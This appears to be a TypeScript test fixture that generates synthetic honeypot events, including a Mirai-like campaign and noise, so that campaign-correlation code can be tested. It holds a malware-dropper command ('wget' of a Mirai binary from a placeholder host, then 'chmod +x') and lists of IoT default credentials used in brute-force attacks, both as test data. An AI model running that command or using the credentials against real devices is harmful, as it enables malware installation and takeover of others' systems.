/**
 * A small honeypot world with known campaigns, for the tests: a Mirai-like campaign (one dropper
 * URL and hash, one dictionary) with members in organisation A (192.0.2.0/25) and B
 * (198.51.100.0/24), a dictionary-only campaign nobody's constituency holds, and noise that
 * must tie nothing: root/root alone, one CDN host with a path per address (70 paths: more than a
 * host may serve), one common tool on port 22 (70 addresses: more than its limit).
 */
import type { EventsStore } from '../../../store/types.js';
import type { HoneypotEventRow } from '../../../schema/honeypot-event.js';
import { writeHoneypotEvents } from '../../../honeypot/store/write-events.js';

export const MIRAI_URL = 'http://203.0.113.7/bins/mirai.arm7';
export const MIRAI_HASH = 'a'.repeat(64);
export const MIRAI_A = ['192.0.2.10', '192.0.2.11', '192.0.2.12'];
export const MIRAI_B = ['198.51.100.20', '198.51.100.21'];
export const DICT_ONLY = ['203.0.113.50', '203.0.113.51', '203.0.113.52'];
export const NOISE = Array.from({ length: 70 }, (_, i) => `100.64.0.${i + 1}`);

const MIRAI_DICT: [string, string][] = [['root', 'xc3511'], ['root', 'vizxv'], ['admin', 'admin'], ['root', 'default']];
const OTHER_DICT: [string, string][] = [['pi', 'raspberry'], ['ubnt', 'ubnt'], ['support', 'support'], ['user', 'user'], ['guest', '12345']];

function session(ip: string, n: number, at: string, extra: Partial<HoneypotEventRow>[]): HoneypotEventRow[] {
  const b = { honeypot: 'cowrie' as const, sensor: 't', session: `${ip}-${n}`, src: ip, ts: at, dst: '192.0.2.200' };
  return [
    { ...b, kind: 'session.connect', proto: 'telnet', dst_port: 23 },
    ...extra.map((e) => ({ ...b, kind: 'command' as const, ...e })),
  ];
}

export function scenarioRows(): HoneypotEventRow[] {
  const rows: HoneypotEventRow[] = [];
  const login = (u: string, p: string): Partial<HoneypotEventRow> => ({ kind: 'login', username: u, password: p, success: 0 });
  [...MIRAI_A, ...MIRAI_B].forEach((ip, i) => rows.push(...session(ip, i, `2026-11-0${1 + (i % 3)}T10:00:0${i}Z`, [
    ...MIRAI_DICT.map(([u, p]) => login(u, p)),
    { kind: 'command', input: `cd /tmp; wget ${MIRAI_URL}; chmod +x mirai.arm7` },
    { kind: 'download', url: MIRAI_URL, url_host: '203.0.113.7', sha256: MIRAI_HASH, size: 1000 },
  ])));
  DICT_ONLY.forEach((ip, i) => rows.push(...session(ip, i, `2026-11-02T11:00:0${i}Z`, OTHER_DICT.map(([u, p]) => login(u, p)))));
  NOISE.forEach((ip, i) => rows.push(...session(ip, i, '2026-11-03T12:00:00Z', [
    login('root', 'root'),
    { kind: 'client.version', proto: 'ssh', client: 'SSH-2.0-Go', dst_port: 22 },
    { kind: 'download', url: `http://cdn.example/u${i}/x.sh`, url_host: 'cdn.example' },
  ])));
  return rows;
}

export async function writeScenario(events: EventsStore): Promise<void> {
  await writeHoneypotEvents(events, scenarioRows(), { token: 'campaign-scenario' });
}
